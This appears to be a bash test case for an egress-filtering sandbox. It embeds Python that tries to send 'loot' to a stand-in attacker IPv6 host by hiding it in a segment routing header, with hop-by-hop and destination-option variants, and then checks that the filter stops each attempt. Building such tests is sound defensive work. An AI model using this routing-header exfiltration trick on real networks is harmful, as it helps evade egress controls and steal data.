#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: connects and sends to an allowed host with IPv6 extension headers by setsockopt: segment routing by another host, hop-by-hop and destination options
# stopped-by: egress
# reason: ipv6_extension
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000

attack_by <<'PYTHON'
from attacker import *

IPV6_HOPOPTS, IPV6_RTHDRDSTOPTS, IPV6_RTHDR, IPV6_DSTOPTS = 54, 55, 57, 59
# Next header, length in 8 bytes, type 4, segments left, last entry, flags, tag; the first segment is where
# the kernel puts the true destination, the second one is the first hop.
SEGMENTS = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + bytes(16) + socket.inet_pton(socket.AF_INET6, EVIL6)
PADDING = bytes([0, 0, 1, 4, 0, 0, 0, 0])

with attempt("tcp, routed"):
    sock = tcp(GOOD6, 0.2)
    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, SEGMENTS)
    sock.connect((GOOD6, 443))
for option, value, tag in (
    (IPV6_RTHDR, SEGMENTS, "routed"), (IPV6_HOPOPTS, PADDING, "hop"), (IPV6_DSTOPTS, PADDING, "destination"),
):
    with attempt(tag):
        sock = udp(GOOD6)
        sock.setsockopt(socket.IPPROTO_IPV6, option, value)
        sock.sendto(loot(tag), (GOOD6, 9000))
    if option == IPV6_RTHDR:
        continue # the kernel takes no segments by control message
    with attempt(tag + " by control message"):
        udp(GOOD6).sendmsg([loot("control-" + tag)], [(socket.IPPROTO_IPV6, option, value)], 0, (GOOD6, 9000))
with attempt("all of them"):
    sock = udp(GOOD6)
    for option, value in (IPV6_HOPOPTS, PADDING), (IPV6_RTHDRDSTOPTS, PADDING), (IPV6_DSTOPTS, PADDING), (IPV6_RTHDR, SEGMENTS):
        sock.setsockopt(socket.IPPROTO_IPV6, option, value)
    sock.sendto(loot("all"), (GOOD6, 9000))
PYTHON
works 'ip6 6 .* EVIL6 443 .*extension:43' 'ip6 17 .* EVIL6 9000 .*stolen:routed' stolen:routed stolen:hop \
	stolen:destination stolen:control-hop stolen:control-destination stolen:all
gate
stopped
recorded egress ipv6_extension
